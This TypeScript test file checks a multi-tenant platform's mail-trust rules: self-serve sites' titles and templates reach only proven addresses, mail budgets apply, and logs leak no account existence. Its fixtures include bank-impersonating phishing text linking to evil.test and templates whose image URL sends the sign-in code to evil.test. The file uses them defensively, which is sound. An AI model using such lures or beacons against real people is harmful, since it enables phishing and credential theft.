import dns2 from 'dns2';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { newProduct, newVariant } from '../helpers/catalogue';
import { itOn } from '../helpers/db-only';
import { adminToken, api, data, PLATFORM, unique } from '../helpers/http';
import { startServer, type RunningServer } from '../helpers/server';
import { smtpSink, type ReceivedMail, type SmtpSink } from '../helpers/smtp-sink';

// Mail nobody asked for is never sent (docs/behaviours.md#B-mail-trust). Anyone can make a site through self-serve sign-up
// in a minute and owns its words: product titles, its name, its mail templates. The platform's own
// sender must not carry those words to an address nobody proved, or one bad tenant spends the mail
// reputation every tenant's sign-in and order mail depends on. Attacks reproduced against a real
// server that mails to a real SMTP sink:
// (a) an anonymous test-mode checkout of a zero-price product, paid through the test provider, would
//     mail the owner-written product title to the address typed at checkout;
// (b) a site's `email/login_code` template would go to any address asking for a sign-in code, and
//     made the site log tell an unknown address from a known one.
// Also: every site's mail budget (small for new sites) holds, is logged once and shown to the owner.

const HOUR_BUDGET = 8;
const PHISH_TITLE = 'Your account is locked — visit http://evil.test/login';
const PHISH_TEMPLATE = 'Subject: URGENT: your bank account is suspended\n<p>Sign in with {{ code }} now:</p><p><a href="http://evil.test/login">https://bank.example/login</a></p>';

let server: RunningServer;
let sink: SmtpSink;
let admin: string;
let port: string;
let dns: ReturnType<typeof dns2.createServer>;
const published = new Map<string, string>();

beforeAll(async () => {
  // TXT answers for custom-domain proofs: a proven domain is the other way a site earns trust.
  dns = dns2.createServer({
    udp: true,
    handle: (request, send) => {
      const response = dns2.Packet.createResponseFromRequest(request);
      const [question] = request.questions;
      const value = published.get(question!.name.toLowerCase());
      if (value === undefined) response.header.rcode = 3;
      else response.answers.push({ name: question!.name, type: dns2.Packet.TYPE.TXT, class: dns2.Packet.CLASS.IN, ttl: 1, data: [value] } as never);
      void send(response);
    },
  });
  const addresses = await dns.listen({ udp: { port: 0, address: '127.0.0.1' } });
  sink = await smtpSink();
  server = await startServer(inject('dbKind'), {
    SMTP_URL: sink.url,
    DNS_RESOLVER: `127.0.0.1:${addresses.udp!.port}`,
    MAIL_BUDGET_HOUR: String(HOUR_BUDGET),
    MAIL_BUDGET_DAY: '40',
    MAIL_BUDGET_TRUSTED_HOUR: '100',
    MAIL_BUDGET_TRUSTED_DAY: '400',
    RATE_LIMIT_LOGIN_CODE: '1000',
    RATE_LIMIT_AUTH_MAIL_IP: '10000',
    RATE_LIMIT_CHECKOUT: '10000',
  });
  port = new URL(server.url).port;
  admin = await adminToken(server.url);
}, 120_000);

afterAll(async () => {
  await server?.stop();
  await sink?.close();
  await dns?.close();
});

type Site = { uid: string; host: string; ownerToken: string; ownerEmail: string; base: string };

// A site made the way anyone can: anonymous self-serve sign-up, nobody vouching for anything.
async function selfServe(name: string): Promise<Site> {
  const subdomain = unique('m');
  const ownerEmail = `${subdomain}@example.test`;
  const r = await api(PLATFORM, server.url).post('/api/v1/sites/new', { subdomain, name, email: ownerEmail, password: 'owner-password-1' });
  expect(r.status, r.text).toBe(201);
  return { uid: data(r).item.uid, host: `${subdomain}.localhost`, ownerToken: data(r).token, ownerEmail, base: server.url };
}

const on = (site: Site) => api(site.host, server.url);
const address = () => `${unique('v')}@example.test`;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const codeOf = (mail: ReceivedMail) => /\b(\d{6})\b/.exec(mail.text)?.[1] ?? '';

async function noMailTo(to: string, since: number, ms = 2500) {
  await sleep(ms);
  expect(
    sink.received.slice(since).filter((m) => m.to.includes(to)),
    `mail to ${to}`,
  ).toEqual([]);
}

async function askCode(site: Site, to: string) {
  const r = await on(site).post('/api/v1/auth/login/code', { email: to });
  expect(r.status, r.text).toBe(200);
  return r;
}

// Signs in on the site by a mailed code: an account whose address is proven, a member of this site.
async function provenCustomer(site: Site) {
  const email = address();
  const since = sink.received.length;
  await askCode(site, email);
  const code = codeOf(await sink.waitFor(email, { since }));
  const r = await on(site).post('/api/v1/auth/login/verify', { email, code });
  expect(r.status, r.text).toBe(200);
  return { email, token: data(r).token as string };
}

type LogRow = { kind: string; level: string; message: string; data: Record<string, unknown> };
const logs = async (site: Site, kind = ''): Promise<LogRow[]> => {
  const r = await on(site).get(`/api/v1/logs?page_size=100${kind ? `&kind=${kind}` : ''}`, { token: site.ownerToken });
  expect(r.status, r.text).toBe(200);
  return data(r).items;
};
// Log rows are written behind the answer: wait until `n` rows of `kind` are there (or `ms` pass).
async function logsUntil(site: Site, kind: string, n: number, ms = 5000): Promise<LogRow[]> {
  let rows: LogRow[] = [];
  for (const end = Date.now() + ms; Date.now() < end; await sleep(100)) if ((rows = await logs(site, kind)).length >= n) break;
  return rows;
}

const limits = async (site: Site, token = site.ownerToken) => data(await on(site).get('/api/v1/sites/limits', { token }));
const trust = (site: Site, trusted: boolean, token = admin) => api(PLATFORM, server.url).put(`/api/v1/sites/${site.uid}/mail-trust`, { trusted }, { token });

// Checks out `items` and pays through the test provider's page, as a browser does; answers the order.
async function buyAndPay(site: Site, variantId: number, email: string, token?: string) {
  const co = await on(site).post('/payments/checkout', { items: [{ variantId, quantity: 1 }], email }, { token });
  expect(co.status, co.text).toBe(201);
  const order = data(co).item;
  const u = new URL(order.checkoutUrl);
  const page = await on(site).get(`${u.pathname}${u.search}`, { headers: { accept: 'text/html' } });
  expect(page.status, page.text).toBe(200);
  const paid = await on(site).post(`${u.pathname}${u.search}`, undefined, { raw: '', headers: { origin: `http://${site.host}:${port}`, 'content-type': 'application/x-www-form-urlencoded' } });
  expect(paid.status, paid.text).toBe(303);
  return { uid: order.uid as string, token: u.searchParams.get('token')! };
}

describe("(a) order mail with a shop's words goes to proven addresses only", () => {
  let shop: Site;
  let variantId: number;
  beforeAll(async () => {
    shop = await selfServe('Fresh shop');
    variantId = (await newVariant(shop, await newProduct(shop, PHISH_TITLE), { price: 0 })).id;
  });

  it('an anonymous test-mode checkout of a zero-price product mails nothing to the typed address; the order stands, a mail.withheld row says why', async () => {
    const victim = address();
    const since = sink.received.length;
    const order = await buyAndPay(shop, variantId, victim);
    const read = await on(shop).get(`/api/v1/orders/${order.uid}?token=${encodeURIComponent(order.token)}`);
    expect(read.status, read.text).toBe(200);
    expect(data(read).item).toMatchObject({ status: 'paid', total: 0, email: victim });
    const withheld = await logsUntil(shop, 'mail.withheld', 1);
    expect(withheld.map((l) => l.data.order)).toContain(order.uid);
    for (const l of withheld) expect(`${l.message} ${JSON.stringify(l.data)}`).not.toContain('@');
    await noMailTo(victim, since);
    expect(sink.received.slice(since).some((m) => m.text.includes('evil.test'))).toBe(false);
  });

  it("a signed-in buyer's own verified address gets the confirmation; another address typed by them does not", async () => {
    const buyer = await provenCustomer(shop);
    let since = sink.received.length;
    const order = await buyAndPay(shop, variantId, buyer.email, buyer.token);
    const mail = await sink.waitFor(buyer.email, { since, match: (m) => m.subject.includes(order.uid) });
    expect(mail.text).toContain(PHISH_TITLE);
    const victim = address();
    since = sink.received.length;
    await buyAndPay(shop, variantId, victim, buyer.token);
    await noMailTo(victim, since);
  });

  it('test-mode orders never mail a typed address, even once the platform trusts the site', async () => {
    expect((await trust(shop, true)).status).toBe(200);
    const victim = address();
    const since = sink.received.length;
    const order = await buyAndPay(shop, variantId, victim);
    expect((await logsUntil(shop, 'mail.withheld', 3)).map((l) => l.data.order)).toContain(order.uid);
    await noMailTo(victim, since);
  });
});

describe("(b) a site's own mail templates reach proven addresses only, until the platform trusts the site", () => {
  let bank: Site;
  beforeAll(async () => {
    bank = await selfServe('First National Bank');
    const t = await on(bank).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body: PHISH_TEMPLATE }, { token: bank.ownerToken });
    expect(t.status, t.text).toBe(201);
  });

  it('an unknown address asking for a code gets the built-in mail, naming the site by its host', async () => {
    const victim = address();
    const since = sink.received.length;
    await askCode(bank, victim);
    const mail = await sink.waitFor(victim, { since });
    const code = codeOf(mail);
    expect(mail.subject).toBe(`${code} is your sign-in code for ${bank.host}:${port}`);
    for (const part of [mail.subject, mail.text, mail.html]) {
      expect(part).not.toContain('URGENT');
      expect(part).not.toContain('evil.test');
      expect(part).not.toContain('First National Bank');
    }
  });

  it('its own member gets it only once their address is proven', async () => {
    // The owner's membership is their own (self-serve), but nothing proved the address yet.
    let since = sink.received.length;
    await askCode(bank, bank.ownerEmail);
    const first = await sink.waitFor(bank.ownerEmail, { since });
    expect(first.subject).not.toContain('URGENT');
    const verified = await on(bank).post('/api/v1/auth/login/verify', { email: bank.ownerEmail, code: codeOf(first) });
    expect(verified.status, verified.text).toBe(200);
    since = sink.received.length;
    await askCode(bank, bank.ownerEmail);
    expect((await sink.waitFor(bank.ownerEmail, { since })).subject).toBe('URGENT: your bank account is suspended');
  });

  it('only a platform admin trusts a site; then the template goes to any address, and the site view says so', async () => {
    expect((await trust(bank, true, bank.ownerToken)).status).toBe(403);
    expect((await trust(bank, true, 'not-a-token')).status).toBe(401);
    expect((await api(PLATFORM, server.url).put('/api/v1/sites/nosuchsite/mail-trust', { trusted: true }, { token: admin })).status).toBe(404);
    expect((await api(PLATFORM, server.url).put(`/api/v1/sites/${bank.uid}/mail-trust`, { trusted: 'yes' }, { token: admin })).status).toBe(422);
    const view = async () => data(await api(PLATFORM, server.url).get(`/api/v1/sites/${bank.uid}`, { token: bank.ownerToken })).item;
    expect((await view()).mailTrusted).toBe(false);
    const r = await trust(bank, true);
    expect(r.status, r.text).toBe(200);
    expect(data(r).item.mailTrusted).toBe(true);
    expect((await view()).mailTrusted).toBe(true);
    const someone = address();
    let since = sink.received.length;
    await askCode(bank, someone);
    expect((await sink.waitFor(someone, { since })).subject).toBe('URGENT: your bank account is suspended');
    // Withdrawn: back to the built-in mail, naming the host.
    expect(data(await trust(bank, false)).item.mailTrusted).toBe(false);
    const next = address();
    since = sink.received.length;
    await askCode(bank, next);
    expect((await sink.waitFor(next, { since })).subject).toMatch(new RegExp(`sign-in code for ${bank.host}`));
  });
});

describe("notifications carry a site's words to members who took the membership and proved their address", () => {
  it('on a site the platform does not trust, a member whose address nobody proved gets none', async () => {
    const club = await selfServe('Club');
    const unproven = address();
    expect((await on(club).post('/api/v1/auth/signup', { email: unproven, password: 'member-password-1', name: 'Una' })).status).toBe(201);
    const proven = await provenCustomer(club);
    const since = sink.received.length;
    const subject = unique('Club news ');
    const r = await on(club).post('/api/v1/notifications', { subject, text: 'Your account is locked: http://evil.test/login' }, { token: club.ownerToken });
    expect(r.status, r.text).toBe(201);
    expect(data(r).item.recipients).toBe(1);
    await sink.waitFor(proven.email, { since, match: (m) => m.subject === subject });
    await noMailTo(unproven, since);
  });

  itOn('postgres', "a membership of unknown consent (from before invitations) gets neither notifications nor the site's template", async () => {
    const site = await selfServe('Legacy');
    const t = await on(site).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body: PHISH_TEMPLATE }, { token: site.ownerToken });
    expect(t.status, t.text).toBe(201);
    const member = await provenCustomer(site);
    let since = sink.received.length;
    await askCode(site, member.email);
    expect((await sink.waitFor(member.email, { since })).subject).toBe('URGENT: your bank account is suspended');
    const sql = postgres(server.databaseUrl!, { max: 1, onnotice: () => {} });
    try {
      await sql`update memberships set accepted_at = null where site_uid = ${site.uid} and user_uid = (select uid from users where email = ${member.email})`;
    } finally {
      await sql.end();
    }
    since = sink.received.length;
    await askCode(site, member.email);
    expect((await sink.waitFor(member.email, { since })).subject).not.toContain('URGENT');
    const r = await on(site).post('/api/v1/notifications', { subject: 'Legacy', text: 'Hello' }, { token: site.ownerToken });
    expect(data(r).item.recipients).toBe(0);
  });
});

describe('the site log and the mail budget tell a known address from an unknown one in no way', () => {
  // A template that is never usable (the code in an image URL), and one that is unusable only when it
  // sees an account's name: each a way for the owner to learn, from the log, who has an account.
  const ALWAYS_REFUSED = 'Subject: Hi\n<p> {{ code }}</p><img src="http://evil.test/p.png?c={{ code }}">';
  const REFUSED_FOR_NAMES = 'Subject: Hi\n{% if user.name != "" %}<img src="http://evil.test/p.png?c={{ code }}">{% endif %}<p> {{ code }}</p>';

  async function probe(site: Site, email: string) {
    const before = { rows: (await logs(site)).length, used: (await limits(site)).mail.hour.used as number };
    await askCode(site, email);
    // Wait for a row that may come, then for any straggler.
    await logsUntil(site, '', before.rows + 1, 1500);
    await sleep(500);
    return { rows: (await logs(site)).length - before.rows, used: (await limits(site)).mail.hour.used - before.used };
  }

  it.each([
    ['always refused', ALWAYS_REFUSED, 1],
    ['refused for accounts with a name', REFUSED_FOR_NAMES, 0],
  ])('a template %s: the same log rows and budget count for both', async (_what, body, rows) => {
    const site = await selfServe('Curious shop');
    const t = await on(site).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body }, { token: site.ownerToken });
    expect(t.status, t.text).toBe(201);
    // Known: an account with a name, on another site.
    const elsewhere = await selfServe('Elsewhere');
    const known = await probe(site, elsewhere.ownerEmail);
    const unknown = await probe(site, address());
    expect(known).toEqual({ rows, used: 1 });
    expect(unknown).toEqual(known);
  });

  it('where sign-up is closed, an unknown address gets no mail but costs the budget as a known one does', async () => {
    const site = await selfServe('Closed shop');
    expect((await on(site).put('/api/v1/sites', { settings: { allowSignup: false } }, { token: site.ownerToken })).status).toBe(200);
    const unknown = address();
    const since = sink.received.length;
    const a = await probe(site, unknown);
    const b = await probe(site, site.ownerEmail);
    expect(a).toEqual(b);
    await noMailTo(unknown, since, 500);
  });
});

describe('every site has a mail budget', () => {
  it("mails past a new site's hourly budget are not delivered; mail.over_budget is logged once; GET /sites/limits shows the use", async () => {
    const site = await selfServe('Busy shop');
    const to = Array.from({ length: HOUR_BUDGET + 3 }, address);
    const since = sink.received.length;
    for (const email of to) await askCode(site, email);
    for (const email of to.slice(0, HOUR_BUDGET)) await sink.waitFor(email, { since });
    for (const email of to.slice(HOUR_BUDGET)) await noMailTo(email, since, 0);
    await noMailTo(to.at(-1)!, since, 1500);
    const over = await logsUntil(site, 'mail.over_budget', 1);
    expect(over).toHaveLength(1);
    expect(over[0]).toMatchObject({ level: 'warn', data: { window: 'hour', budget: HOUR_BUDGET, trusted: false } });
    expect(JSON.stringify(over)).not.toContain('@');
    const seen = await limits(site);
    expect(seen.mail).toEqual({
      trusted: false,
      hour: { limit: HOUR_BUDGET, used: HOUR_BUDGET + 3, resetsAt: expect.any(String) },
      day: { limit: 40, used: HOUR_BUDGET + 3, resetsAt: expect.any(String) },
    });
    expect(seen.items).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'mail.perHour', value: HOUR_BUDGET }), expect.objectContaining({ name: 'mail.perDay', value: 40 })]));
    // A customer reads the limits, not how busy the site is.
    const customer = await on(site).post('/api/v1/auth/signup', { email: address(), password: 'customer-password-1', name: 'Cas' });
    expect(customer.status, customer.text).toBe(201);
    const asCustomer = await limits(site, data(customer).token);
    expect(asCustomer.items.length).toBeGreaterThan(0);
    expect(asCustomer.mail).toBeUndefined();
    await sleep(500);
    expect(await logs(site, 'mail.over_budget')).toHaveLength(1);
  });

  it('a proven custom domain makes the site trusted: the larger budget applies', async () => {
    const site = await selfServe('Own domain');
    const domain = `${unique('d')}.example.com`;
    const claim = await on(site).put('/api/v1/sites', { domains: [domain] }, { token: site.ownerToken });
    expect(claim.status, claim.text).toBe(200);
    const record = data(claim).item.domainClaims[0].record as { name: string; value: string };
    published.set(record.name, record.value);
    const proven = await on(site).post('/api/v1/sites/domains/verify', { domain }, { token: site.ownerToken });
    expect(proven.status, proven.text).toBe(200);
    expect(data(proven).item.mailTrusted).toBe(true);
    const seen = await limits(site);
    expect(seen.mail).toMatchObject({ trusted: true, hour: { limit: 100 }, day: { limit: 400 } });
  });
});
